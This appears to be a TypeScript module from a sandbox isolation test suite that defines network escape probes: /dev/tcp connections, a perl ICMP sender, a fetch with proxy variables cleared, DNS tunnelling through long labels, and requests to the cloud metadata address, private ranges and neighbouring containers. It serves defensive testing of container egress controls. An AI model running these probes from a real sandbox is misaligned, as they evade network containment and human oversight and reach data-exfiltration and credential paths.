import {
  ALLOWED,
  BLOCKED,
  CGNAT,
  METADATA,
  NEIGHBOUR,
  nameOf,
  PRIVATE_172,
  PRIVATE_192,
  PUBLIC_V6,
  RESOLVER,
  UNIQUE_LOCAL_V6,
} from './addresses.ts';
import type { Attack, Who } from './attack.ts';
import type { Probe } from './probes.ts';

/** What the battery learns of the place it attacks from. */
export interface NetworkScene {
  marker: string;
  /** The cell's own gateway, and its other ports: listeners of the host on all addresses. */
  gateway: { host: string; port: number };
  hostListener: number;
  hostAddresses: string[];
  hostLinkLocal: string | null;
  hostResolverPort: number | null;
  /** A second cell: its container and its gateway. */
  other: { host: string; listener: number; gateway: { host: string; port: number } };
}

const BOTH: Who[] = ['user', 'root'];

/** Raw and datagram ICMP by perl, which every Debian has; `ping` may not be there. */
const icmp = (host: string): Probe => ({
  kind: 'shell',
  command: `perl -MSocket -e '
    my ($type) = @ARGV; my $ok = 0;
    for my $kind (SOCK_RAW, SOCK_DGRAM) {
      socket(my $s, PF_INET, $kind, 1) or next;
      my $body = pack("C2 n3 a8", 8, 0, 0, 77, 1, "attack!!"); my $sum = 0;
      $sum += $_ for unpack("n*", $body); $sum = ($sum >> 16) + ($sum & 0xffff); $sum += $sum >> 16;
      $body = pack("C2 n3 a8", 8, 0, ~$sum & 0xffff, 77, 1, "attack!!");
      send($s, $body, 0, pack_sockaddr_in(0, inet_aton("${host}"))) or next;
      my $r = ""; vec($r, fileno($s), 1) = 1;
      $ok = 1 if select($r, undef, undef, 1);
    }
    print $ok ? "echo reply" : "none ($!)";'`,
  expect: '^echo reply',
  timeoutMs: 5_000,
});

export function networkAttacks(scene: NetworkScene): Attack[] {
  const attacks: Attack[] = [];
  const add = (title: string, probe: Probe, control: Attack['control'] = { in: 'open', probe }) =>
    attacks.push({ area: 'network', title, as: BOTH, probe, control });
  const tcp = (host: string, port: number): Probe => ({ kind: 'tcp', host, port, send: '{token}' });
  const tls = (host: string, servername: string, hostHeader = servername): Probe => ({
    ...{ kind: 'tls', host, port: 443, servername },
    send: `GET /{token} HTTP/1.1\r\nHost: ${hostHeader}\r\n\r\n`,
  });
  const udp = (host: string, port: number): Probe => ({ kind: 'udp', host, port, send: '{token}' });

  add('HTTPS to a raw address', tls(ALLOWED, nameOf('allowed')));
  add('HTTPS with SNI other than Host', tls(ALLOWED, nameOf('allowed'), nameOf('blocked')));
  add('HTTP to a raw address', tcp(BLOCKED, 80));
  add('SSH port of an outside host', tcp(BLOCKED, 22));
  add(
    'HTTPS by name',
    {
      kind: 'shell',
      command: `getent hosts ${nameOf('allowed')} || (exec 3<>/dev/tcp/${nameOf('allowed')}/443 && echo open)`,
      expect: 'open|128\\.66',
    },
    {
      in: 'open',
      probe: { kind: 'shell', command: `exec 3<>/dev/tcp/${ALLOWED}/443 && echo open`, expect: 'open' },
    },
  );
  add('NO_PROXY and proxy variables emptied', {
    kind: 'shell',
    command: `NO_PROXY='*' no_proxy='*' http_proxy= https_proxy= node -e "fetch('http://${BLOCKED}/{token}',{signal:AbortSignal.timeout(2000)}).then(r=>r.text()).then(console.log,e=>console.log(String(e.cause?.code??e)))"`,
    expect: scene.marker,
  });

  add('DNS to a foreign resolver, UDP', { kind: 'dns', server: RESOLVER, name: `{token}.${nameOf('x')}` });
  add('DNS to a foreign resolver, TCP', {
    kind: 'dns',
    server: RESOLVER,
    name: `{token}.${nameOf('x')}`,
    tcp: true,
  });
  add('DNS tunnel by long labels', {
    kind: 'dns',
    server: RESOLVER,
    name: `{token}${'x'.repeat(40)}.${'y'.repeat(63)}.${'z'.repeat(63)}.${nameOf('x')}`,
  });
  const engineResolver: Attack['control'] = {
    in: 'open',
    probe: { kind: 'dns', server: RESOLVER, name: `{token}.${nameOf('x')}` },
  };
  add(
    "DNS through the engine's resolver",
    { kind: 'dns', server: '127.0.0.11', name: `{token}.${nameOf('x')}` },
    engineResolver,
  );
  add('DNS through the system resolver', { kind: 'lookup', name: `{token}.${nameOf('x')}` }, engineResolver);
  add(
    "DNS at the gateway's address",
    { kind: 'dns', server: scene.gateway.host, name: `{token}.${nameOf('x')}` },
    engineResolver,
  );
  if (scene.hostResolverPort !== null) {
    add("DNS on the host's loopback", {
      kind: 'dns',
      server: '127.0.0.1',
      port: scene.hostResolverPort,
      name: `{token}.${nameOf('x')}`,
    });
  }

  add('UDP to an outside host', udp(BLOCKED, 4433));
  add('UDP to the metadata address', udp(METADATA, 4433));
  add('ICMP to an outside host', icmp(BLOCKED));
  add('ICMP to a neighbour of the host', icmp(NEIGHBOUR));
  add('metadata service', tcp(METADATA, 80));
  add("neighbour on the host's subnet", tcp(NEIGHBOUR, 80));
  add('private range 172.16/12', tcp(PRIVATE_172, 80));
  add('private range 192.168/16', tcp(PRIVATE_192, 80));
  add('carrier-grade NAT range', tcp(CGNAT, 80));

  add('IPv6, public address', tcp(PUBLIC_V6, 443));
  add('IPv6, unique local address', tcp(UNIQUE_LOCAL_V6, 80));
  add('IPv6 UDP', udp(PUBLIC_V6, 4433));
  add('IPv6 DNS', { kind: 'dns', server: PUBLIC_V6, name: `{token}.${nameOf('x')}` });
  if (scene.hostLinkLocal !== null) {
    const at = (zone: string) => tcp(`${scene.hostLinkLocal}%${zone}`, scene.hostListener);
    add("IPv6 link-local address of the host's bridge", at('eth0'), {
      in: 'open',
      probe: tcp('::1', scene.hostListener),
    });
  }

  add("other ports of the host's bridge address", tcp(scene.gateway.host, scene.hostListener));
  add("UDP to the host's bridge address", udp(scene.gateway.host, scene.hostListener));
  for (const address of scene.hostAddresses) add(`the host at ${address}`, tcp(address, scene.hostListener));
  const neighbour = tcp(scene.other.host, scene.other.listener);
  add('container of another run', neighbour, { in: 'other', probe: neighbour });
  add('gateway of another run', tcp(scene.other.gateway.host, scene.other.gateway.port));
  return attacks;
}
